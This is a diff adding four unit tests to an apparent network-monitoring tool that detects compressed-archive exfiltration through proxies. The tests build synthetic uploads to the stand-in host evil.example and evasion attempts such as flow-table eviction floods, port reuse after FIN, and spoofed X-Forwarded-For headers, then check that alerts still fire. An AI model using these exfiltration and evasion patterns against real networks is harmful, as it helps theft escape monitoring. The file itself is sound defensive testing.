@@ -308,6 +308,149 @@ test_connect_after_proxy_auth_407(void **state)
 	assert_int_equal(alerts[0].ts_ns, t + 4 + 19);
 }
 
+
+/* Review finding: an upload and a request to a familiar host in the same
+ * segments: the upload is credited to its own destination. */
+static void
+test_segment_split_between_requests(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t seg[4096], zip[3000];
+	static const char post[] = "POST http://evil.example/u HTTP/1.1\r\n"
+	    "Host: evil.example\r\nContent-Length: 3000\r\n\r\n";
+	static const char get[] = "GET http://good.example/ HTTP/1.1\r\n"
+	    "Host: good.example\r\n\r\n";
+	struct conn learn = { "10.1.20.80", "10.77.1.2", 50040, 3128, 1 };
+	struct conn c = { "10.1.20.81", "10.77.1.2", 50041, 3128, 1 };
+	size_t i, n;
+
+	send_out(fx->p, &learn, T0, get, sizeof(get) - 1); /* good is familiar */
+	fill_archive(zip, sizeof(zip), "PK\x03\x04", 4);
+	n = 0;
+	memcpy(seg + n, post, sizeof(post) - 1);
+	n += sizeof(post) - 1;
+	memcpy(seg + n, zip, sizeof(zip));
+	n += sizeof(zip);
+	memcpy(seg + n, get, sizeof(get) - 1);
+	n += sizeof(get) - 1;
+	for (i = 0; i < 10; i++)
+		send_out(fx->p, &c, T0 + 2 * 3600 * SEC + i, seg, n);
+	assert_int_equal(nalerts, 1);
+	assert_string_equal(alerts[0].rule, "compressed-upload");
+	assert_string_equal(alerts[0].dst_host, "evil.example");
+	assert_int_equal(alerts[0].payload[PK_ZIP], 21000);
+}
+
+/* Review finding: the same 5-tuple reused after FIN is a new connection. */
+static void
+test_syn_after_close_is_new_connection(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t frame[128];
+	static uint8_t zip[25000];
+	static const char get[] = "GET http://good.example/ HTTP/1.1\r\n"
+	    "Host: good.example\r\n\r\n";
+	static const char connect[] = "CONNECT evil.example:443 HTTP/1.1\r\n\r\n";
+	struct conn learn = { "10.1.20.9", "10.77.1.2", 40010, 3128, 1 };
+	struct conn c = { "10.1.20.82", "10.77.1.2", 50042, 3128, 1 };
+	struct pipeline_stats st;
+	uint64_t t = T0 + 2 * 3600 * SEC;
+	size_t i, n;
+
+	send_out(fx->p, &learn, T0, get, sizeof(get) - 1); /* good is familiar */
+	send_out(fx->p, &c, t, get, sizeof(get) - 1);
+	n = tcp_frame(frame, "10.1.20.82", "10.77.1.2", 50042, 3128, c.seq,
+	    TCP_FIN | TCP_ACK, "", 0);
+	pipeline_frame(fx->p, DLT_EN10MB, frame, (uint32_t)n, (uint32_t)n, t + 1);
+	/* within closed_timeout, the same ports again with an ISN behind */
+	c.seq = 0xffff0001u;
+	n = tcp_frame(frame, "10.1.20.82", "10.77.1.2", 50042, 3128, c.seq, TCP_SYN, "", 0);
+	pipeline_frame(fx->p, DLT_EN10MB, frame, (uint32_t)n, (uint32_t)n, t + 2);
+	c.seq++;
+	send_out(fx->p, &c, t + 3, connect, sizeof(connect) - 1);
+	fill_archive(zip, sizeof(zip), "PK\x03\x04", 4);
+	for (i = 0; i < 25; i++)
+		send_out(fx->p, &c, t + 4 + i, zip + i * 1000, 1000);
+	assert_int_equal(nalerts, 1);
+	assert_string_equal(alerts[0].dst_host, "evil.example");
+	pipeline_get_stats(fx->p, &st);
+	assert_int_equal(st.flows.created, 3);
+}
+
+/* Review finding: a flood of new pairs evicting a running upload's pair
+ * does not hide it: the flow gets its pair again. */
+static void
+test_pair_eviction_does_not_hide_upload(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t zip[25000], frame[128];
+	struct conn c = { "10.1.20.83", "203.0.113.90", 50043, 8443, 1 };
+	struct pipeline_stats st;
+	uint64_t t = T0 + 2 * 3600 * SEC;
+	char dst[NETADDR_STRLEN], client[32];
+	unsigned i;
+	size_t n;
+
+	learn_destination(fx->p, "198.51.100.10", 40004);
+	fill_archive(zip, sizeof(zip), "PK\x03\x04", 4);
+	send_out(fx->p, &c, t, zip, 1000);
+	/* 70 short connections from 70 hosts: 70 new pairs > limits.pairs
+	 * (64); closed at once, so the flow table drops them first */
+	for (i = 0; i < 70; i++) {
+		snprintf(client, sizeof(client), "10.1.30.%u", i);
+		n = tcp_frame(frame, client, "203.0.113.4", 2000, 80, 1,
+		    TCP_ACK | TCP_FIN, "x", 1);
+		pipeline_frame(fx->p, DLT_EN10MB, frame, (uint32_t)n, (uint32_t)n, t + 1);
+	}
+	for (i = 1; i < 25; i++)
+		send_out(fx->p, &c, t + 2 + i, zip + i * 1000, 1000);
+	pipeline_get_stats(fx->p, &st);
+	assert_int_equal(st.pairs_rebound, 1);
+	assert_int_equal(nalerts, 1);
+	netaddr_format(&alerts[0].dst, dst, sizeof(dst));
+	assert_string_equal(dst, "203.0.113.90");
+	/* the window started again at the rebinding: 20 KB of it after that */
+	assert_int_equal(alerts[0].ts_ns, t + 2 + 20);
+}
+
+/* Review findings: on an egress tap only an internal X-Forwarded-For
+ * address names the client; a CONNECT to an address literal is an address
+ * destination. */
+static void
+test_xff_must_be_internal_and_connect_literal(void **state)
+{
+	struct fixture *fx = *state;
+	static uint8_t rar[25000];
+	static const char post[] = "POST /u HTTP/1.1\r\nHost: evil.example\r\n"
+	    "X-Forwarded-For: 10.9.9.9, 8.8.8.8\r\nContent-Length: 25000\r\n\r\n";
+	static const char connect[] = "CONNECT 203.0.113.77:443 HTTP/1.1\r\n\r\n";
+	struct conn eg = { "10.77.1.2", "203.0.113.66", 50050, 80, 1 };
+	struct conn lit = { "10.1.20.85", "10.77.1.2", 50051, 3128, 1 };
+	struct pipeline_stats st;
+	char src[NETADDR_STRLEN], dst[NETADDR_STRLEN];
+	uint64_t t = T0 + 2 * 3600 * SEC;
+	size_t i;
+
+	learn_destination(fx->p, "198.51.100.10", 40005);
+	fill_archive(rar, sizeof(rar), "Rar!\x1a\x07\x00", 7);
+	send_out(fx->p, &eg, t, post, sizeof(post) - 1);
+	for (i = 0; i < 25; i++)
+		send_out(fx->p, &eg, t + 1 + i, rar + i * 1000, 1000);
+	assert_int_equal(nalerts, 1);
+	netaddr_format(&alerts[0].src, src, sizeof(src));
+	assert_string_equal(src, "10.77.1.2"); /* 8.8.8.8 is not ours */
+	pipeline_get_stats(fx->p, &st);
+	assert_int_equal(st.xff_not_internal, 1);
+	send_out(fx->p, &lit, t, connect, sizeof(connect) - 1);
+	for (i = 0; i < 25; i++)
+		send_out(fx->p, &lit, t + 1 + i, rar + i * 1000, 1000);
+	assert_int_equal(nalerts, 2);
+	assert_string_equal(alerts[1].dst_host, "");
+	netaddr_format(&alerts[1].dst, dst, sizeof(dst));
+	assert_string_equal(dst, "203.0.113.77");
+	assert_int_equal(alerts[1].dst_country, ('H' << 8) | 'K');
+}
+
 static void
 test_retransmission_counts_bytes_not_kind(void **state)
 {
@@ -430,6 +573,10 @@ main(void)
 		cmocka_unit_test_setup_teardown(test_familiar_and_domestic_stay_quiet, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_connect_tunnel_binds_name_and_credits_pending, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_connect_after_proxy_auth_407, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_segment_split_between_requests, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_syn_after_close_is_new_connection, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_pair_eviction_does_not_hide_upload, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_xff_must_be_internal_and_connect_literal, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_retransmission_counts_bytes_not_kind, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_internal_and_transit_not_tracked, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_bare_teardown_starts_no_flow, setup, teardown),
